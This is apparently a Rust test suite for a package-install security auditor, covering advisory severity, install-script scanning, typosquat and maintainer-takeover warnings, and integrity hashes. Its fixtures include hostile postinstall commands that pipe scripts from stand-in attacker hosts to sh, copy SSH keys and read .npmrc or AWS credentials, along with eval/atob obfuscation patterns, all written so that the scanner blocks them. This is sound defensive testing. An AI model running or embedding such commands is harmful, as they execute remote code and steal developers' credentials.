use base64::Engine;
use sha2::Digest;
use vault_core::audit::cache::{cache_key, entry_at, get, lookup, put, CacheEntry};
use vault_core::audit::integrity::{verify, verify_precomputed};
use vault_core::audit::osv::{
    classify_severity, fit_batch_results, normalize, recommended_fix, Advisory, DatabaseSpecific,
    OsvAffected, OsvEvent, OsvRange, OsvSeverity, OsvVuln,
};
use vault_core::audit::reputation::{
    assess, check_maintainers, days_from_civil, iso_date_to_epoch_days, now_epoch_days,
    published_age_days, MaintainerRecord,
};
use vault_core::audit::static_scan::{has_block, scan, Severity};
use vault_core::audit::typosquat::{levenshtein, nearest_popular};
use vault_core::audit::{audit_package, osv_enabled, AuditReport};
use vault_core::clock::now_secs;
use vault_core::config::Config;
use vault_core::error::VaultError;
use vault_core::registry::{Dist, Maintainer, Packument, VersionMeta};
use vault_core::strmap::StrMap;

fn map_of(entries: &[(&str, &str)]) -> StrMap<String> {
    let mut m = StrMap::new();
    for (k, v) in entries {
        m.insert(k.to_string(), v.to_string());
    }
    m
}

fn scripts(hook: &str, body: &str) -> StrMap<String> {
    map_of(&[(hook, body)])
}

fn advisory(id: &str, severity: &str) -> Advisory {
    Advisory {
        id: id.into(),
        summary: "".into(),
        severity: severity.into(),
        fixed: None,
    }
}

// ---- osv ----

#[test]
fn critical_and_high_abort() {
    let a = Advisory {
        id: "GHSA-x".into(),
        summary: "".into(),
        severity: "critical".into(),
        fixed: None,
    };
    assert!(a.is_critical());
}

#[test]
fn moderate_advisory_does_not_abort() {
    assert!(advisory("GHSA-y", "high").is_critical());
    assert!(!advisory("GHSA-y", "moderate").is_critical());
    assert!(!advisory("GHSA-y", "HIGH").is_critical());
}

fn vuln(db_severity: Option<&str>, severity: Vec<OsvSeverity>, events: Vec<OsvEvent>) -> OsvVuln {
    OsvVuln {
        id: "GHSA-test".into(),
        summary: None,
        severity,
        database_specific: Some(DatabaseSpecific {
            severity: db_severity.map(|s| s.to_string()),
        }),
        affected: vec![OsvAffected {
            ranges: vec![OsvRange { events }],
        }],
    }
}

fn event(introduced: Option<&str>, fixed: Option<&str>) -> OsvEvent {
    OsvEvent {
        introduced: introduced.map(|s| s.to_string()),
        fixed: fixed.map(|s| s.to_string()),
    }
}

#[test]
fn textual_severity_is_lowercased() {
    let v = vuln(Some("HIGH"), vec![], vec![]);
    assert_eq!(classify_severity(&v, &vec![]), "high");
}

#[test]
fn cvss_bucket_is_used_without_textual_severity() {
    let sev = vec![
        OsvSeverity { kind: "OTHER".into(), score: "x".into() },
        OsvSeverity { kind: "CVSS_V3".into(), score: "CVSS:3.1/AV:N".into() },
        OsvSeverity { kind: "CVSS_V3".into(), score: "9.8".into() },
    ];
    let v = vuln(None, sev, vec![]);
    let buckets = vec![Some("low".to_string()), None, Some("critical".to_string())];
    assert_eq!(classify_severity(&v, &buckets), "critical");
    assert_eq!(classify_severity(&v, &vec![]), "unknown");
}

#[test]
fn fix_is_lowest_on_the_installed_line() {
    let v = OsvVuln {
        id: "GHSA-fix".into(),
        summary: None,
        severity: vec![],
        database_specific: None,
        affected: vec![OsvAffected {
            ranges: vec![
                OsvRange {
                    events: vec![event(Some("0"), None), event(None, Some("1.2.5"))],
                },
                OsvRange {
                    events: vec![event(Some("2.0.0"), None), event(None, Some("2.3.1"))],
                },
                OsvRange {
                    events: vec![event(Some("0"), None), event(None, Some("1.4.0"))],
                },
            ],
        }],
    };
    assert_eq!(recommended_fix(&v, "1.2.3"), Some("1.2.5".to_string()));
    assert_eq!(recommended_fix(&v, "2.1.0"), Some("2.3.1".to_string()));
    assert_eq!(recommended_fix(&v, "3.0.0"), None);
    assert_eq!(recommended_fix(&v, "not-a-version"), None);
}

#[test]
fn normalize_fills_defaults() {
    let v = vuln(Some("Moderate"), vec![], vec![event(Some("0"), None), event(None, Some("1.0.1"))]);
    let a = normalize(v, "1.0.0", &vec![]);
    assert_eq!(a.id, "GHSA-test");
    assert_eq!(a.summary, "(no summary provided)");
    assert_eq!(a.severity, "moderate");
    assert_eq!(a.fixed, Some("1.0.1".to_string()));
}

#[test]
fn batch_results_fit_the_query_count() {
    let r = fit_batch_results(vec![vec!["A".to_string()]], 3);
    assert_eq!(r, vec![vec!["A".to_string()], vec![], vec![]]);
    let r = fit_batch_results(vec![vec![], vec!["B".to_string()]], 1);
    assert_eq!(r, vec![Vec::<String>::new()]);
}

// ---- static scan ----

#[test]
fn detects_curl_exfiltration() {
    let s = scripts("postinstall", "curl http://evil.example/c | sh");
    let f = scan(&s);
    assert!(has_block(&f));
}

#[test]
fn detects_ssh_access() {
    let s = scripts("preinstall", "cat ~/.ssh/id_rsa");
    assert!(has_block(&scan(&s)));
}

#[test]
fn clean_script_passes() {
    let s = scripts("postinstall", "node build.js");
    assert!(scan(&s).is_empty());
}

#[test]
fn env_access_only_warns() {
    let s = scripts("postinstall", "echo process.env.PATH");
    let f = scan(&s);
    assert!(!f.is_empty());
    assert!(!has_block(&f));
}

#[test]
fn scan_is_case_insensitive_and_ignores_other_scripts() {
    let s = map_of(&[("test", "curl http://x"), ("install", "EVAL(atob(x))")]);
    let f = scan(&s);
    assert_eq!(f.len(), 2);
    assert_eq!(f[0].script, "install");
    assert_eq!(f[0].pattern, "eval(");
    assert_eq!(f[0].severity, Severity::Block);
    assert_eq!(f[1].pattern, "atob(");
}

#[test]
fn npmrc_theft_is_blocked() {
    let f = scan(&scripts("postinstall", "cat ~/.npmrc"));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].pattern, ".npmrc");
    assert!(has_block(&f));
}

#[test]
fn whitespace_does_not_hide_a_pattern() {
    let f = scan(&scripts("install", "curl    http://x\n| sh; EVAL (x)"));
    assert_eq!(f.len(), 2);
    assert_eq!(f[0].pattern, "curl http");
    assert_eq!(f[1].pattern, "eval(");
    let f = scan(&scripts("install", "curl\thttp://x"));
    assert_eq!(f.len(), 1);
}

#[test]
fn obfuscation_rules() {
    let f = scan(&scripts("preinstall", "node -e \"new Function(String.fromCharCode(104,105))()\""));
    assert_eq!(f.len(), 2);
    assert_eq!(f[0].pattern, "new function(");
    assert_eq!(f[0].severity, Severity::Block);
    assert_eq!(f[1].pattern, "fromcharcode");
    assert_eq!(f[1].severity, Severity::Warn);
    let f = scan(&scripts("install", "node -e process.binding('fs')"));
    assert_eq!(f.len(), 1);
    assert!(has_block(&f));
}

#[test]
fn dense_escapes_warn() {
    let f = scan(&scripts("postinstall", "node -e \"\\x68\\x69\\u0041\\x42\""));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].pattern, "\\x / \\u escapes");
    assert_eq!(f[0].severity, Severity::Warn);
    let f = scan(&scripts("postinstall", "echo \\x41 and a long enough tail of ordinary text here"));
    assert!(f.is_empty());
}

// ---- typosquat ----

#[test]
fn distance_basics() {
    assert_eq!(levenshtein("lodash", "lodash"), 0);
    assert_eq!(levenshtein("lodahs", "lodash"), 2);
    assert_eq!(levenshtein("expresss", "express"), 1);
}

#[test]
fn distance_edge_cases() {
    assert_eq!(levenshtein("", "abc"), 3);
    assert_eq!(levenshtein("kitten", "sitting"), 3);
}

#[test]
fn catches_typosquats() {
    assert_eq!(nearest_popular("expresss"), Some("express"));
    assert_eq!(nearest_popular("crossenv"), Some("cross-env"));
    assert_eq!(nearest_popular("loadash"), Some("lodash"));
}

#[test]
fn exact_popular_is_safe() {
    assert_eq!(nearest_popular("lodash"), None);
    assert_eq!(nearest_popular("react"), None);
}

#[test]
fn unrelated_names_are_safe() {
    assert_eq!(nearest_popular("my-cool-internal-lib"), None);
    assert_eq!(nearest_popular("is-odd"), None);
}

#[test]
fn uppercase_exact_popular_is_safe() {
    assert_eq!(nearest_popular("LODASH"), None);
}

// ---- reputation ----

fn packument_with(version: &str, published: &str, maintainers: usize) -> Packument {
    let mut time = StrMap::new();
    time.insert(version.to_string(), published.to_string());
    Packument {
        name: "demo".into(),
        dist_tags: StrMap::new(),
        versions: StrMap::new(),
        time,
        maintainers: (0..maintainers)
            .map(|i| Maintainer {
                name: format!("m{i}"),
                email: None,
            })
            .collect(),
    }
}

#[test]
fn epoch_days_roundtrip() {
    assert_eq!(iso_date_to_epoch_days("1970-01-01T00:00:00Z"), Some(0));
    assert_eq!(iso_date_to_epoch_days("1970-01-02"), Some(1));
    assert_eq!(iso_date_to_epoch_days("2000-01-01"), Some(10957));
}

#[test]
fn malformed_dates_do_not_parse() {
    assert_eq!(iso_date_to_epoch_days("2000-13-01"), None);
    assert_eq!(iso_date_to_epoch_days("2000-01"), None);
    assert_eq!(iso_date_to_epoch_days("x-01-01"), None);
    assert_eq!(days_from_civil(1969, 12, 31), -1);
    assert_eq!(days_from_civil(2024, 3, 1), 19783);
}

#[test]
fn recent_publish_warns() {
    let cfg = Config::default();
    let now = iso_date_to_epoch_days("2026-01-31").unwrap();
    let pack = packument_with("1.0.0", "2026-01-20", 1);
    let w = assess(&cfg, &pack, "1.0.0", None, now);
    assert_eq!(w.len(), 1);
    assert!(w[0].message.contains("11 day"));
}

#[test]
fn recent_publish_message_is_exact() {
    let cfg = Config::default();
    let now = iso_date_to_epoch_days("2026-01-31").unwrap();
    let pack = packument_with("1.0.0", "2026-01-20", 2);
    let w = assess(&cfg, &pack, "1.0.0", None, now);
    assert_eq!(
        w[0].message,
        "demo@1.0.0 was published 11 day(s) ago (< 30d); 2 maintainer(s) — verify this is expected (possible maintainer takeover)"
    );
    assert_eq!(published_age_days(&pack, "1.0.0", now), Some(11));
    assert_eq!(published_age_days(&pack, "2.0.0", now), None);
}

#[test]
fn old_publish_is_quiet() {
    let cfg = Config::default();
    let now = iso_date_to_epoch_days("2026-01-31").unwrap();
    let pack = packument_with("1.0.0", "2020-01-01", 3);
    assert!(assess(&cfg, &pack, "1.0.0", None, now).is_empty());
}

#[test]
fn low_downloads_warns() {
    let cfg = Config::default();
    let now = now_epoch_days();
    let pack = packument_with("1.0.0", "2000-01-01", 2);
    let w = assess(&cfg, &pack, "1.0.0", Some(7), now);
    assert_eq!(w.len(), 1);
    assert!(w[0].message.contains("7 weekly downloads"));
}

#[test]
fn popular_old_package_is_quiet() {
    let cfg = Config::default();
    let now = now_epoch_days();
    let pack = packument_with("1.0.0", "2015-01-01", 5);
    assert!(assess(&cfg, &pack, "1.0.0", Some(5_000_000), now).is_empty());
}

#[test]
fn typosquat_name_warns() {
    let cfg = Config::default();
    let mut pack = packument_with("1.0.0", "2015-01-01", 5);
    pack.name = "expresss".into();
    let w = assess(&cfg, &pack, "1.0.0", None, now_epoch_days());
    assert_eq!(w.len(), 1);
    assert_eq!(
        w[0].message,
        "expresss closely resembles the popular package `express` — possible typosquat"
    );
}

#[test]
fn maintainer_changes_are_reported() {
    let mut pack = packument_with("1.0.0", "2015-01-01", 2);
    pack.maintainers.push(Maintainer { name: "m0".into(), email: None });
    pack.maintainers.push(Maintainer { name: "".into(), email: None });
    let (w, rec) = check_maintainers(None, &pack);
    assert!(w.is_none());
    assert_eq!(rec.names, vec!["m0".to_string(), "m1".to_string()]);

    let prev = MaintainerRecord { names: vec!["m0".into()] };
    let (w, _) = check_maintainers(Some(&prev), &pack);
    assert_eq!(
        w.unwrap().message,
        "demo: maintainer set changed since last install (new: m1) — possible takeover"
    );

    let empty = MaintainerRecord { names: vec![] };
    assert!(check_maintainers(Some(&empty), &pack).0.is_none());
    let same = MaintainerRecord { names: vec!["m0".into(), "m1".into()] };
    assert!(check_maintainers(Some(&same), &pack).0.is_none());
}

#[test]
fn repeat_maintainer_check_is_quiet() {
    let mut pack = packument_with("1.0.0", "2015-01-01", 2);
    pack.maintainers.push(Maintainer { name: "zed".into(), email: None });
    let prev = MaintainerRecord { names: vec!["m0".into()] };
    let (w, rec) = check_maintainers(Some(&prev), &pack);
    assert!(w.is_some());
    let (w2, rec2) = check_maintainers(Some(&rec), &pack);
    assert!(w2.is_none());
    assert_eq!(rec2.names, rec.names);
}

// ---- integrity ----

fn sri_of(data: &[u8]) -> String {
    let digest = <sha2::Sha512 as Digest>::digest(data);
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

#[test]
fn sha512_sri_roundtrip() {
    let data = b"vault integrity test";
    let sri = sri_of(data);
    assert!(verify("pkg", "1.0.0", data, Some(&sri), None).is_ok());
}

#[test]
fn tampered_payload_is_rejected() {
    let sri = sri_of(b"original");
    assert!(verify("pkg", "1.0.0", b"tampered", Some(&sri), None).is_err());
}

#[test]
fn missing_metadata_is_rejected() {
    assert!(verify("pkg", "1.0.0", b"x", None, None).is_err());
}

#[test]
fn integrity_error_texts() {
    let sri_x = sri_of(b"x");
    match verify("pkg", "1.0.0", b"y", Some(&sri_x), None) {
        Err(VaultError::Integrity { name, version, expected, actual }) => {
            assert_eq!(name, "pkg");
            assert_eq!(version, "1.0.0");
            assert_eq!(expected, sri_x);
            assert_eq!(actual, sri_of(b"y"));
        }
        other => panic!("unexpected {other:?}"),
    }
    match verify("pkg", "1.0.0", b"x", Some("nodash"), None) {
        Err(VaultError::Integrity { actual, .. }) => assert_eq!(actual, "<malformed SRI>"),
        other => panic!("unexpected {other:?}"),
    }
    match verify("pkg", "1.0.0", b"x", Some("sha512-***"), None) {
        Err(VaultError::Integrity { actual, .. }) => assert_eq!(actual, "<invalid base64 in SRI>"),
        other => panic!("unexpected {other:?}"),
    }
    match verify("pkg", "1.0.0", b"x", Some("sha1-AAAA"), None) {
        Err(VaultError::Integrity { expected, actual, .. }) => {
            assert_eq!(expected, "unsupported integrity algorithm `sha1`");
            assert_eq!(actual, "<none>");
        }
        other => panic!("unexpected {other:?}"),
    }
    match verify("pkg", "1.0.0", b"x", None, None) {
        Err(VaultError::Integrity { expected, actual, .. }) => {
            assert_eq!(expected, "<registry provided no integrity hash>");
            assert_eq!(actual, "<none>");
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn sri_takes_the_first_token() {
    let data = b"multi";
    let sri = format!("  {} sha1-whatever", sri_of(data));
    assert!(verify("pkg", "1.0.0", data, Some(&sri), None).is_ok());
}

#[test]
fn shasum_is_compared_case_insensitively() {
    let data = b"legacy";
    let hex_lower = hex::encode(<sha1::Sha1 as Digest>::digest(data));
    let hex_upper = hex_lower.to_uppercase();
    assert!(verify("pkg", "1.0.0", data, None, Some(&hex_upper)).is_ok());
    match verify("pkg", "1.0.0", b"other", None, Some(&hex_lower)) {
        Err(VaultError::Integrity { expected, actual, .. }) => {
            assert_eq!(expected, hex_lower);
            assert_eq!(actual, hex::encode(<sha1::Sha1 as Digest>::digest(b"other")));
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn precomputed_digests_are_checked() {
    let sri = sri_of(b"abc");
    assert!(verify_precomputed("p", "1", &[0u8; 64], &[0u8; 20], Some(&sri), None).is_err());
}

// ---- cache ----

#[test]
fn roundtrip_within_ttl() {
    let adv = vec![Advisory {
        id: "GHSA-x".into(),
        summary: "s".into(),
        severity: "high".into(),
        fixed: None,
    }];
    assert_eq!(cache_key("left-pad", "1.0.0"), "left-pad@1.0.0");
    let entry = put(adv);
    let got = get(Some(entry), 24).expect("fresh hit");
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].id, "GHSA-x");
}

#[test]
fn stale_entry_is_a_miss() {
    let now = now_secs();
    let entry = || CacheEntry {
        audited_at: now.saturating_sub(2 * 3600),
        advisories: vec![],
    };
    assert!(lookup(Some(entry()), now, 1).is_none(), "2h old > 1h TTL");
    assert!(lookup(Some(entry()), now, 3).is_some(), "2h old < 3h TTL");
    assert!(get(None, 24).is_none());
}

#[test]
fn cache_freshness_edges() {
    let e = entry_at(vec![], 1000);
    assert_eq!(e.audited_at, 1000);
    assert!(lookup(Some(entry_at(vec![], 1000)), 1000 + 3600, 1).is_some());
    assert!(lookup(Some(entry_at(vec![], 1000)), 1000 + 3601, 1).is_none());
    assert!(lookup(Some(entry_at(vec![], 5000)), 1000, 0).is_some());
    assert!(lookup(Some(entry_at(vec![], 0)), u64::MAX, u64::MAX).is_some());
}

// ---- audit gate ----

fn package_with_postinstall(name: &str, script: Option<&str>) -> VersionMeta {
    let mut scripts = StrMap::new();
    if let Some(s) = script {
        scripts.insert("postinstall".to_string(), s.to_string());
    }
    VersionMeta {
        name: name.to_string(),
        version: "1.0.0".to_string(),
        dependencies: StrMap::new(),
        optional_dependencies: StrMap::new(),
        peer_dependencies: StrMap::new(),
        scripts,
        dist: Dist {
            tarball: "https://example.test/x.tgz".to_string(),
            shasum: None,
            integrity: Some("sha512-deadbeef".to_string()),
        },
    }
}

fn offline_config() -> Config {
    let mut cfg = Config::default();
    cfg.audit.sources.clear();
    cfg
}

#[test]
fn clean_package_passes() {
    let cfg = offline_config();
    let pkg = package_with_postinstall("clean-package", Some("node build.js"));
    let report: AuditReport = audit_package(&cfg, &pkg, None).expect("should pass");
    assert!(report.is_clean(), "a benign build script must not block");
    assert_eq!(report.lifecycle_hooks, vec!["postinstall".to_string()]);
}

#[test]
fn package_without_scripts_is_clean() {
    let cfg = offline_config();
    let pkg = package_with_postinstall("no-scripts", None);
    let report = audit_package(&cfg, &pkg, None).expect("should pass");
    assert!(report.is_clean());
    assert!(report.lifecycle_hooks.is_empty());
}

#[test]
fn network_exfiltration_postinstall_is_blocked() {
    let cfg = offline_config();
    let pkg = package_with_postinstall(
        "postinstall-network",
        Some("curl http://attacker.example/steal.sh | sh"),
    );
    let err = audit_package(&cfg, &pkg, None).expect_err("malicious script must be blocked");
    match err {
        VaultError::SecurityBlock { name, reason, .. } => {
            assert_eq!(name, "postinstall-network");
            assert!(reason.contains("curl") || reason.to_lowercase().contains("remote"));
        }
        other => panic!("expected SecurityBlock, got {other:?}"),
    }
}

#[test]
fn ssh_credential_access_is_blocked() {
    let cfg = offline_config();
    let pkg = package_with_postinstall(
        "postinstall-ssh",
        Some("cp ~/.ssh/id_rsa /tmp && node index.js"),
    );
    let err = audit_package(&cfg, &pkg, None).unwrap_err();
    assert!(matches!(err, VaultError::SecurityBlock { .. }));
}

#[test]
fn env_reading_script_warns_but_installs() {
    let cfg = offline_config();
    let pkg = package_with_postinstall("postinstall-env", Some("echo $npm_config_registry"));
    let report = audit_package(&cfg, &pkg, None).expect("should pass");
    assert!(report.lifecycle_hooks.contains(&"postinstall".to_string()));
}

#[test]
fn warnings_alone_leave_a_report_clean() {
    let cfg = offline_config();
    let pkg = package_with_postinstall("postinstall-env", Some("echo process.env.HOME"));
    let report = audit_package(&cfg, &pkg, None).expect("should pass");
    assert!(!report.findings.is_empty());
    assert!(report.is_clean());
}

#[test]
fn critical_advisories_block_before_scripts() {
    let cfg = Config::default();
    assert!(osv_enabled(&cfg));
    let pkg = package_with_postinstall("bad", Some("curl http://x | sh"));
    let advs = vec![advisory("GHSA-1", "critical"), advisory("GHSA-2", "low"), advisory("GHSA-3", "high")];
    match audit_package(&cfg, &pkg, Some(advs)) {
        Err(VaultError::SecurityBlock { name, version, reason }) => {
            assert_eq!(name, "bad");
            assert_eq!(version, "1.0.0");
            assert_eq!(reason, "critical/high CVE(s): GHSA-1, GHSA-3");
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn script_block_reason_lists_block_findings() {
    let cfg = offline_config();
    let pkg = package_with_postinstall("bad", Some("wget http://x && cat ~/.aws/creds; echo process.env.X"));
    match audit_package(&cfg, &pkg, Some(vec![advisory("GHSA-1", "critical")])) {
        Err(VaultError::SecurityBlock { reason, .. }) => assert_eq!(
            reason,
            "malicious lifecycle script: downloads a remote payload with wget during install (postinstall); references ~/.aws — possible cloud credential theft (postinstall)"
        ),
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn advisories_pass_when_abort_is_off() {
    let mut cfg = Config::default();
    cfg.security.abort_on_critical_cve = false;
    let pkg = package_with_postinstall("ok", None);
    let report = audit_package(&cfg, &pkg, Some(vec![advisory("GHSA-1", "critical")])).unwrap();
    assert!(report.has_critical_cve());
    assert!(!report.is_clean());
    assert_eq!(report.advisories.len(), 1);
}
